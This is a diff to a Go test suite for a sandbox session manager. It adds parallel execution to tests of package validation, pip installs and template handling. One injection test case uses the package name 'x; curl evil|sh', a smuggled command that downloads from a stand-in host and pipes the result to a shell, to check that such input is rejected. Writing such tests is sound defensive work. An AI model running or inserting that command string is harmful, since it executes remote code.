@@ -15,6 +15,7 @@ import (
 )
 
 func TestValidatePackages(t *testing.T) {
+	t.Parallel()
 	good := []string{"numpy", "numpy==1.26.4", "pandas>=2,<3", "requests[socks]~=2.31", "scikit-learn!=1.4.0",
 		"foo.bar_baz-qux", "pkg==1.*", "Django>3", "a", "pkg===1.0", "x[a,b]<=2"}
 	if err := session.ValidatePackages(good); err != nil {
@@ -61,6 +62,7 @@ func recordPip(rt *memory.Runtime, code int) func() [][]string {
 }
 
 func TestPackagesInstalledWithArgv(t *testing.T) {
+	t.Parallel()
 	m, rt := newManager(t, session.Options{Packages: []string{"numpy==1.26", "pandas>=2,<3"}})
 	calls := recordPip(rt, 0)
 	s := mustAcquire(t, m, "k")
@@ -83,6 +85,7 @@ func TestPackagesInstalledWithArgv(t *testing.T) {
 }
 
 func TestPackagesSkippedWhenTemplateShipsThem(t *testing.T) {
+	t.Parallel()
 	m, rt := newManager(t, session.Options{
 		Create:           sandbox.CreateOptions{Template: "ds"},
 		Packages:         []string{"numpy", "pandas"},
@@ -107,6 +110,7 @@ func TestPackagesSkippedWhenTemplateShipsThem(t *testing.T) {
 }
 
 func TestPackageInstallFailureDestroysSandbox(t *testing.T) {
+	t.Parallel()
 	m, rt := newManager(t, session.Options{Packages: []string{"nosuchpkg"}})
 	recordPip(rt, 1)
 	_, err := m.Acquire(context.Background(), "k")
@@ -119,6 +123,7 @@ func TestPackageInstallFailureDestroysSandbox(t *testing.T) {
 }
 
 func TestPackageInstallTimeout(t *testing.T) {
+	t.Parallel()
 	m, rt := newManager(t, session.Options{Packages: []string{"numpy"}, InstallTimeout: 20 * time.Millisecond})
 	rt.Handle("pip", func(ctx context.Context, _ *memory.Call) int { <-ctx.Done(); return 1 })
 	_, err := m.Acquire(context.Background(), "k")
@@ -131,6 +136,7 @@ func TestPackageInstallTimeout(t *testing.T) {
 }
 
 func TestSelectPackagesGetsEffectiveTemplate(t *testing.T) {
+	t.Parallel()
 	var got []string
 	var mu sync.Mutex
 	m, rt := newManager(t, session.Options{
@@ -173,6 +179,7 @@ func TestSelectPackagesGetsEffectiveTemplate(t *testing.T) {
 }
 
 func TestSelectPackagesFailuresDestroySandbox(t *testing.T) {
+	t.Parallel()
 	for name, sel := range map[string]func(string) ([]string, error){
 		"error":     func(string) ([]string, error) { return nil, errors.New("incompatible template") },
 		"injection": func(string) ([]string, error) { return []string{"numpy", "x; curl evil|sh"}, nil },
@@ -195,6 +202,7 @@ func TestSelectPackagesFailuresDestroySandbox(t *testing.T) {
 }
 
 func TestMissingTemplateFailsFast(t *testing.T) {
+	t.Parallel()
 	m, rt := newManager(t, session.Options{Create: sandbox.CreateOptions{Template: "custom"}})
 	rt.FailNext(memory.OpCreate, 1, notFound("template custom"))
 	_, err := m.Acquire(context.Background(), "k")
@@ -207,6 +215,7 @@ func TestMissingTemplateFailsFast(t *testing.T) {
 }
 
 func TestReattachFinishesInterruptedSetup(t *testing.T) {
+	t.Parallel()
 	rt := memory.New()
 	c := sandbox.NewClient(rt)
 	ctx := context.Background()
